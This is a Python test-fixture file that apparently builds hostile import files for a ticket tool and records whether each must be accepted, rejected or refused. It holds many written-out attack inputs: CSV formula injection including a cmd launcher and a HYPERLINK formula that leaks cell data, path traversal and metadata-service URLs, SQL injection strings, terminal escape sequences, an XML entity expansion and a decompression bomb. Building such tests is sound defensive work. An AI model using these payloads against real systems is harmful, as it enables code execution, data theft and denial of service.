"""Hostile files of our own making for `sdesk import`, each with what must become of it."""

from __future__ import annotations

import gzip
import io
import zipfile
from typing import NamedTuple


class File(NamedTuple):
    """A file, and what must become of it."""

    cls: str
    name: str
    raw: bytes
    added: int = 0
    rejected: int = 0
    refused: bool = False
    """Nothing of it may go in, and one clear line says why."""
    may_refuse: bool = False
    again: bool = False
    """Imported twice, it adds nothing the second time."""
    says: str = ""
    """A word that its refusal, or its report, must hold."""


def table(*rows: str, end: str = "\n") -> bytes:
    """A CSV of tickets under the usual heads."""
    return end.join(["external_id,title,requester,priority,state,body", *rows, ""]).encode()


def lines(*rows: str) -> bytes:
    return "\n".join([*rows, ""]).encode()


def one(number: str, title: str, body: str = "b") -> str:
    def cell(text: str) -> str:
        return '"' + text.replace('"', '""') + '"'

    return f"{number},{cell(title)},a@x.example,P3,new,{cell(body)}"


def workbook(*files: tuple[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, raw in files:
            packed.writestr(name, raw)
    return made.getvalue()


FORMULAS = ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "＝1+1", " =1+1", '=HYPERLINK("http://x"&A1)', "'=1")  # fmt: skip
PATHS = ("../../etc/passwd", "/dev/zero", "file:///etc/shadow", "https://169.254.169.254/", "\\\\host\\share", "C:\\x")  # fmt: skip
SQL = (
    "'); DROP TABLE ticket;--",
    "NEAR(a b) OR title:*",
    "%_%",
    '"unbalanced',
    "' OR 1=1 --",
    "\\",
)
TERMINAL = ("\x1b]52;c;ZXZpbA==\x1b\\pwn", "[@click=app.quit]x[/] [/nope]", "\x9b2J\x9d0;t\x9c", "a\u202eb", "bell\x07")  # fmt: skip
DTD = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><worksheet>&b;</worksheet>'
DEEP = '{"external_id":"D1","title":"t","fields":' + '{"a":' * 5_000 + "1" + "}" * 5_001

TALK = (
    '"x"',
    '[{"at":"NaN","kind":"reply"}]',
    '[{"kind":"audit","text":"x"}]',
    "[[]]",
    '[{"author":1}]',
)
DATED = ("2026-02-30", "0000-01-01", "9999-12-31", "-1", "2026-11-02T25:00", "\u0661\u0662/\u0660\u0661/2026", "=NOW()", "9" * 20, "NaN")  # fmt: skip
NUMBERS = ("-1", "1.5", "0x1", "NaN", "1e400", "9" * 5_000, "\u0663", "1;2")
INTERNAL = ("role", "version", "event_hash", "is_staff", "prev_hash", "password", "erased_at")
POINTING = ("attachment", "attachments", "file", "url", "link", "parent")

FILES: tuple[File, ...] = (
    File("formula", "formulas.csv", table(*(one(f"F{n}", text) for n, text in enumerate(FORMULAS))), added=len(FORMULAS), again=True),
    File("encoding", "utf16.csv", table(one("U1", "Grüße")).decode().encode("utf-16"), added=1, may_refuse=True),
    File("encoding", "windows.csv", table(one("W1", "Grüße für Öberg")).decode().encode("cp1252"), added=1),
    File("encoding", "nul.csv", table(one("N1", "a\0b", "c\0d")), added=1, may_refuse=True),
    File("encoding", "utf16-unmarked.csv", table(one("U2", "Gruesse")).decode().encode("utf-16-be"), added=1, may_refuse=True),
    File("encoding", "utf32.csv", table(one("U3", "Grüße")).decode().encode("utf-32"), added=1, may_refuse=True),
    File("encoding", "utf16-cut.csv", table(one("U4", "Grüße")).decode().encode("utf-16") + b"x", refused=True),
    File("encoding", "latin1.csv", table(one("U5", "caf\xe9 \x81\x8d")).decode().encode("latin-1"), added=1),
    File("encoding", "mixed.csv", table(one("U6", "Grüße, été, naïve"), one("U7", "@@")).replace(b"@@", b"\xff\xfe"), added=1, rejected=1, again=True),
    File("quote", "after.csv", table('Q4,"a"b,a@x.example,P3,new,b'), refused=True, says="Line 2"),
    File("quote", "open-last.csv", table(one("Q5", "fine"), 'Q6,"open,a@x.example,P3,new,b'), refused=True, says="Line 3"),
    File("quote", "open.csv", table('Q1,"never closed,a@x.example,P3,new,b', *["Q2,fine,a@x.example,P3,new,b"] * 80), refused=True, says="Line 2"),
    File("quote", "open-among-others.csv", table(*['Q1,"never closed,a@x.example,P3,new,b', one("Q2", "fine")] * 40), refused=True),
    File("quote", "within.csv", table('Q3,a "quote" within,a@x.example,P3,new,b'), added=1, may_refuse=True),
    File("columns", "missing.csv", b"external_id,requester\nM1,a@x.example\n", refused=True, says="subject"),
    File("columns", "none.csv", b"", refused=True),
    File("columns", "head-only.csv", table()),
    File("columns", "ragged.csv", table(one("R1", "whole"), "R2,short", one("R3", "long") + ",x,y,z"), added=1, rejected=2, again=True),
    File("columns", "twice.csv", b"external_id,title,title\nT1,a,b\n", refused=True, says="there twice"),
    File("columns", "twice-alike.csv", b"external_id,title,title\nT2,a,a\nT3,b,\nT4,a,c\n", added=2, rejected=1),
    File("columns", "no-head.csv", b"C6,some title,a@x.example,P3,new,b\n", refused=True, says="some title"),
    File("columns", "blank.csv", b"\n\n  \n,,,\n", refused=True, says="no header"),
    File("size", "field.csv", table(one("B1", "big", "x" * 300_000)), added=1, may_refuse=True),
    File("size", "columns.csv", (",".join(f"c{n}" for n in range(20_000)) + "\n" + "," * 19_999 + "\n").encode(), refused=True),
    File("size", "line.csv", table("B2," + "x" * 17_000_000), refused=True, says="16,000,000"),
    File("size", "cell.csv", table("B3,t,a@x.example,P3,new," + "x" * 3_000_000, one("B4", "fine")), added=1, rejected=1, says="line 2"),
    File("size", "packed.csv.gz", gzip.compress(table(one("G1", "packed", "0" * 60_000_000))), refused=True, may_refuse=True),
    File("newlines", "newlines.csv", table(one("NL1", "two\r\nlines", "x\r\ny\nz"), end="\r\n"), added=1),
    File("newlines", "macintosh.csv", table(one("MAC1", "old"), end="\r"), added=1, may_refuse=True),
    File("newlines", "unicode.csv", table(one("UL1", "line\u2028one\x85two")), added=1),
    File("delimiter", "semicolon.csv", table("S1;Excel;a@x.example;P3;new;b").replace(b",", b";"), added=1, may_refuse=True),
    File("delimiter", "tab.csv", table("S2\tExcel\ta@x.example\tP3\tnew\tb").replace(b",", b"\t"), added=1, may_refuse=True),
    File("rerun", "rerun.csv", table(one("X1", "first"), one("X1", "first again"), one("X2", "second")), added=2, rejected=1, again=True),
    File("privilege", "mass.csv", b"external_id,title,requester,id,version,role,is_agent,password_hash,audit_hash,owner_uid\nP1,t,a@x.example,1,999,admin,1,x,0,0\n", refused=True),
    *(File("privilege", f"{name}.csv", f"external_id,title,{name}\nP2,t,0\n".encode(), refused=True, says=f"can't set '{name}'") for name in INTERNAL),
    File("privilege", "fields.jsonl", lines('{"external_id":"P3","title":"t","fields":{"../x":"y"}}', '{"external_id":"P4","title":"t","__proto__":{}}'), refused=True),
    File("values", "dates.csv", table().replace(b",body", b",created_at") + "".join(f"D{n},t,a@x.example,P3,new,{text}\n" for n, text in enumerate((*DATED, "2016-02-29"))).encode(), added=1, rejected=len(DATED)),
    File("values", "either-date.csv", b"external_id,title,created_at\nE1,t,03/04/2026\n", refused=True, says="--dates"),
    File("values", "numbers.csv", table(*(f"NU{n},t,a@x.example,{text},new,b" for n, text in enumerate((*NUMBERS, "p2")))), added=1, rejected=len(NUMBERS)),
    File("values", "nearest.csv", table("NE1,t,a@x.example,P3,opne,b", one("NE2", "fine")), added=1, rejected=1, says="opne=open"),
    File("values", "people.csv", table(*(f'PE{n},t,"{who}",P3,new,b' for n, who in enumerate(("@", "a@", "a\u200b@x.example", "\x1b]0;x\x07a@x.example", "A <a@x.example>")))), added=1, rejected=4),
    File("paths", "paths.csv", table(*(one(f"PA{n}", text, text) for n, text in enumerate(PATHS))), added=len(PATHS)),
    *(File("paths", f"{name}.csv", f"external_id,title,{name}\nAT1,t,/etc/passwd\n".encode(), refused=True, says=name) for name in POINTING),
    File("terminal", "terminal.csv", table(*(one(f"TE{n}", text, text) for n, text in enumerate(TERMINAL))), added=len(TERMINAL)),
    File("terminal", "terminal-heads.csv", b"external_id,title,\x1b]0;x\x07evil\x1b[2J\nTH1,t,x\n", refused=True),
    File("sql", "sql.csv", table(*(one(f"SQ{n}", text, text) for n, text in enumerate(SQL))), added=len(SQL), again=True),
    File("json", "deep.jsonl", lines(DEEP), rejected=1, may_refuse=True),
    File("json", "duplicate-keys.jsonl", lines('{"external_id":"K1","title":"first","title":"second"}'), rejected=1),
    File("json", "numbers.jsonl", lines(*(f'{{"external_id":"J{n}","title":"t","priority":{value}}}' for n, value in enumerate(("NaN", "1e400", "9" * 5_000, "-Infinity", "[[]]")))), rejected=5),
    File("json", "bom.jsonl", b'\xef\xbb\xbf{"external_id":"W1","title":"t"}\r\n\r\n   \r\n{"external_id":"W2","title":"t"}\r\n', added=2),
    File("json", "surrogates.jsonl", lines('{"external_id":"Z1","title":"lone \\ud800 and \\u0000"}', '{"external_id":"Z2","title":"rlo","requester":"a\\u200b@x.example"}'), rejected=2),
    File("json", "talk.jsonl", lines(*(f'{{"external_id":"TA{n}","title":"t","conversation":{said}}}' for n, said in enumerate((*TALK, '[{"kind":"reply","text":"hi"}]')))), added=1, rejected=len(TALK)),
    File("json", "fields-as-text.jsonl", lines('{"external_id":"TB1","title":"t","fields":"x"}', '{"external_id":"TB2","title":"t","fields":{"a":{"b":"c"}}}', '{"external_id":"TB3","title":"t","fields":{"a":"b"}}'), added=1, rejected=2),
    File("json", "cut.jsonl", b'{"external_id":"CU1","title":"a"}\n{"external_id":"CU2","title":\n{"external_id":"CU3","title":"c"}\n{"external_id":"CU4","ti', added=2, rejected=2, says="line 2", again=True),
    File("json", "raw-surrogates.jsonl", b'{"external_id":"RS1","title":"\xed\xa0\x80"}\n{"external_id":"RS2","title":"gr\xc3\xbc\xc3\x9fe"}\n', added=1, rejected=1),
    File("json", "twice-within.jsonl", lines('{"external_id":"K2","title":"a","fields":{"x":"1","x":"2"}}'), rejected=1),
    File("json", "list.json", b'[{"external_id":"L1","title":"t"}]', refused=True),
    File("json", "no-object.jsonl", lines('{"external_id":"O1","title":"t"}', '"text"', "17", "{"), added=1, rejected=3),
    File("zip", "bomb.xlsx", workbook(("xl/worksheets/sheet1.xml", bytes(60_000_000))), refused=True),
    File("zip", "dtd.xlsx", workbook(("xl/worksheets/sheet1.xml", DTD)), refused=True),
    File("zip", "no-zip.xlsx", b"PK\x03\x04 this is no zip", refused=True),
    File("zip", "twice.csv.gz", gzip.compress(gzip.compress(table(one("GZ1", "t")))), refused=True, says="gzipped twice"),
    File("zip", "cut.csv.gz", gzip.compress(table(*(one(f"GZ{n}", "t") for n in range(2_000))))[:-2_000], refused=True, says="damaged"),
    File("zip", "page.csv", b"<!DOCTYPE html><table><tr><td>title</td></tr></table>", refused=True, says="web page"),
    File("zip", "binary.csv", bytes(range(256)) * 40, refused=True),
)  # fmt: skip
